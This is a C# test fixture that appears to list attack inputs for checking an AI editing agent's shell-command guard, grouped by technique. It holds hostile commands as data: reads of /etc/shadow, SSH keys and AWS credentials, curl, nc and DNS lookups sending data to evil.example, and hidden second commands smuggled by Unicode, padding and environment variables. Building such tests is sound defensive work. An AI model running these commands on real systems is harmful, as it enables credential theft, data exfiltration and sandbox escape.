namespace EditorAgent.Tests.BuiltInTools.Shell;

/// <summary>The inputs, by what they try.</summary>
internal static class ShellAttackInputs
{
    private static readonly string[] Joined =
        ["echo hi && touch C", "echo hi ; touch C", "false || touch C", "echo hi | tee C", "echo hi & touch C", "echo hi |& tee C", "echo hi;touch C", "echo hi&&touch C"];

    private static readonly string[] Lines = ["echo hi\ntouch C", "echo hi\r\ntouch C", "echo a\rtouch C", "\necho a", "echo a\n"];

    private static readonly string[] Substituted =
    [
        "echo $(touch C)", "echo `touch C`", "echo \"$(touch C)\"", "echo \"`touch C`\"", "echo \"a$(touch C)b\"",
        "cat <(touch C)", "echo x | tee >(touch C)", "head -n 1 <(touch C) b",
    ];

    private static readonly string[] Escaped = [@"find . -ex\ec touch C {} +", @"find . -de\lete", @"e\cho x", @"\rm x", @"ls \-R"];

    private static readonly string[] FindActions =
    [
        "find . -exec touch C {} +", "find . -exec touch C ';'", "find . -execdir touch C ';'", "find . -ok touch C ';'", "find . -okdir touch C ';'", "find b -delete",
        "find . -fprint C", "find . -fprint0 C", "find . -fls C", "find . -fprintf C x", "find -L link", "find -H link", "find . -name x -delete", "find . -files0-from b",
        "find . '(' -delete ')'", "find link", "find . -newer link-to-outside", "find -P .", "find -D exec .", "find . -name -delete -delete", "find -f . -delete",
    ];

    private static readonly string[] Outside =
    [
        "grep -f /etc/shadow b", "grep -r . ~/.ssh", "cat ~/.aws/credentials", "cat /etc/passwd", "ls /home", "head -c 10 ../secret", "cat link-to-outside", "find / -name id_rsa",
        "cat link/../outside/secret", "cat link/secret", "ls link", "head ../outside/secret", "wc -- ../outside/secret", "grep x -- b /etc/passwd", "rg x /etc", "stat /etc/passwd",
        "file /etc/passwd", "grep -rx . /etc", "cat a.cs /etc/passwd", "ls ..", "wc --files0-from=b", "file -f b", "file -m b b", "file -C -m b", "file -z b",
        "grep -rR x src", "grep -R x src", "grep x -r src", "grep -e x -f/etc/shadow", "grep --file=/etc/shadow b", "tail -f b", "tail --follow=name b", "nl -n",
        "rg --pre sh x", "rg --pre=./x x", "rg -z x", "rg -f /etc/passwd b", "rg -L x", "rg --follow x", "rg -r y x", "rg -E utf8 x", "rg --hostname-bin ./x x", "rg --search-zip x",
        "rg -g -L x", "grep -A -r x", "grep -A x b", "ls -D", "ls --color=always", "ls -I x", "cat -A b", "head -n x b", "stat -f /", "stat --printf=x b",
        "cat ''", "ls ''", "dotnet --info x", "dotnet --version", "pwd -P", "grep -Ern x /", "find src /etc",
    ];

    private static readonly string[] Writers =
        ["sort -o C b", "sort --compress-program=sh b", "sort -S1k -T . b", "uniq b C", "tee C", "split b", "csplit b 1", "dd of=C", "tar -cf C ."];

    private static readonly string[] Wrapped =
    [
        .. ((string[])["env", "time", "timeout 1", "nice", "nohup", "stdbuf -o0", "setsid", "xargs", "command", "builtin", "exec", "sudo", "watch", "ionice", "busybox"])
            .Select(wrapper => $"{wrapper} touch C"),
        "env -S 'touch C'", "nice nohup env touch C", "env ls", "command ls", "builtin echo x", "xargs cat",
    ];

    private static readonly string[] Interpreted =
    [
        "git status", "git diff", "git log", "git diff --output=C", "git grep -Otouch x", "git branch --edit-description", "git ls-remote --upload-pack='touch C;' .",
        "git -c alias.x='!touch C' x", "GIT_EXTERNAL_DIFF='touch C' git diff", "git --exec-path=. x", "git --git-dir=other status", "git cat-file --textconv HEAD:a.cs",
        "awk 'BEGIN{system(\"touch C\")}'", "perl -e 'system \"touch C\"'", "python3 -c 'open(\"C\",\"w\")'", "node -e 'require(\"fs\").writeFileSync(\"C\",\"\")'", "dotnet exec x.dll",
        "bash -c 'touch C'", "sh x", "make", "gdb -ex '!touch C'", "ssh -o ProxyCommand='touch C' h",
    ];

    private static readonly string[] Declared =
    [
        "export PATH=.:$PATH && ls", "FOO=1 ls", "FOO=bar && git status", "LD_PRELOAD=./e.so ls", "PAGER='sh -c \"touch C\"' git log", "declare -x A=b", "typeset A=b", "readonly A=b",
        "local A=b", "alias ls='touch C'", "ls(){ touch C; }; ls", "function ls { touch C; }; ls", "set -o noglob", "shopt -s extglob", "trap 'touch C' EXIT", ". ./x", "source x",
        "eval touch C", "A=b", "enable -n ls", "hash -p x ls", "printf -v PATH x",
    ];

    private static readonly string[] Redirected =
    [
        "echo x > C", "echo x >> ~/.bashrc", "ls 2>C", "ls &>C", "cat <>C", "echo x >| C", ": {fd}>C", "echo x >&C", "cat <<< x", "cat <<E\nx\nE", "echo x > /dev/tcp/127.0.0.1/9", "cat < b",
    ];

    private static readonly string[] Padded =
    [
        "echo a" + new string(' ', 4000) + "; touch C", "echo a" + new string('\t', 4000) + "; touch C", "echo a" + new string('\n', 200) + "; touch C", "echo " + new string('a', 9996),
        "echo " + new string('a', 4092),
    ];

    private static readonly string[] Disguised =
    [
        .. ((string[])["\u00a0", "\u3000", "\u2028", "\u0085", "\u200b", "\u202e", "\U000e0020", "\uff1b"]).Select(character => $"echo a{character}touch C"),
        "l\u0455", "echo e" + string.Concat(Enumerable.Repeat("\u0301", 100)), "echo \u001b[2J", "echo \b\b\b", "echo \u007f", "echo \a", "echo '\u001b]8;;http://x\u0007y\u001b]8;;\u0007'",
    ];

    private static readonly string[] Expanded =
        ["cat ~root/x", "cat ~+/x", "cat ~-", "ls $HOME/.ssh", "cat ..//..//etc/passwd", "cat [a]", "cat ?", "!!", "^a^b", "cat a=~", "cat {a,b}", "echo ${x}"];

    private static readonly string[] Moved =
        ["cd /etc && cat passwd", "cd .. ; cat x", "cd link && ls", "pushd /etc", "cd - && ls", "cd", "ls; cd /; cat etc/passwd", "cd .. && ls", "cd src && ls", "cd '' && ls"];

    private static readonly string[] Broken =
        ["ls 'a", "ls \"a", "ls &&& x", "ls &&", "ls ;; x", "echo $'\\x61'", "echo $\"a\"", "ls \\\n", "| ls", "( ls )", "ls )", "ls \\", "if ls", "! ls", "{ ls; }", "ls #x"];

    private static readonly string[] Spelled = ["/bin/ls", "./ls", "ls.exe", "LS", "bin/ls", "-ls", "ls/", "..", "."];

    private static readonly string[] PowerShell =
        ["$env:X=1; git status", "git checkout HEAD -- .; Write-Host x", "& {touch C}", "iex 'touch C'", "ls &", "cd..", "ls | % { rm $_ }", "Get-Content x -Encoding (touch C)"];

    private static readonly string[] Sent =
    [
        "ping -c1 data.evil.example", "nslookup data.evil.example", "dig data.evil.example", "host data.evil.example", "curl https://evil.example/?d=x", "getent hosts data.evil.example",
        "wget data.evil.example", "nc data.evil.example 1", "ssh data.evil.example",
    ];

    public static IEnumerable<string> All =>
    [
        .. Joined, .. Lines, .. Substituted, .. Escaped, .. FindActions, .. Outside, .. Writers, .. Wrapped, .. Interpreted, .. Declared, .. Redirected, .. Padded, .. Disguised,
        .. Expanded, .. Moved, .. Broken, .. Spelled, .. PowerShell, .. Sent,
    ];
}
